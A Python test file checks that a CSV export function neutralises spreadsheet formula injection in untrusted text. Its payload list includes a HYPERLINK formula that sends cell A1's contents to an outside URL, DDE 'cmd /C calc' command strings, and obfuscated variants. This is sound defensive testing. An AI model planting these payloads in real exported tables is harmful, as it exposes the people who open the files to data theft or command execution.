"""Texts of strangers in tables that are opened with a spreadsheet."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sheetgrader.boundary.tables import csv_table, field_text

FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1,"marks")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1"',
    "\u00a0=1+1",
    "\uff1d1+1",
    "\x00=1+1",
    "\u202e=1+1",
    "\x1b[31m=1+1",
    "Ada;=1+1",
    'Ada",=1+1',
    "Ada\t=1+1",
    "Ada\n=1+1",
]


def _is_formula(field: str) -> bool:
    return bool(re.match(r"\s*[=+@\-\uff1d\uff0b\uff0d\uff20]", field))


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_text_is_a_formula_however_the_table_is_read(text: str, separator: str) -> None:
    table = csv_table([["name", text, text]])
    for row in csv.reader(io.StringIO(table), delimiter=separator):
        assert not any(_is_formula(field) for field in row), row


def test_what_is_no_formula_stays_as_it_is() -> None:
    name = 'Müller, "Ada"; x = 1'
    table = csv_table([["Ada-Lovelace_1", name, -1.5, 3, None, "O'Neill"]])
    assert table == 'Ada-Lovelace_1,"Müller, ""Ada""; x = 1",-1.5,3,,O\'Neill\n'
    assert next(csv.reader(io.StringIO(table))) == ["Ada-Lovelace_1", name, "-1.5", "3", "", "O'Neill"]


@given(st.text("=+-@\uff1d \t\r\n;,\"'ab\x00\u202e", max_size=30))
def test_whatever_is_written_is_one_field_and_no_formula(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_table([[text, "after"]])))
    assert row == [field_text(text), "after"]
    for field in re.split("[,;\t\n]", row[0]):
        assert not _is_formula(field.lstrip('" '))
